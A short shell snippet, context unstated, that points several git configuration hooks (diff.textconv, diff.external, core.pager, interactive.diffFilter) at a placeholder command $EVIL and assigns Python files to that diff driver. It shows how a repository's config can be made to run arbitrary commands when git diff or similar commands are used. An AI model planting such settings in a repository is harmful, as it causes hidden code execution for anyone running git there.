git config diff.evil.textconv "$EVIL; cat"
git config diff.evil.command "$EVIL"
git config diff.external "$EVIL"
git config core.pager "$EVIL"
git config interactive.diffFilter "$EVIL"
echo '*.py diff=evil' > .git/info/attributes
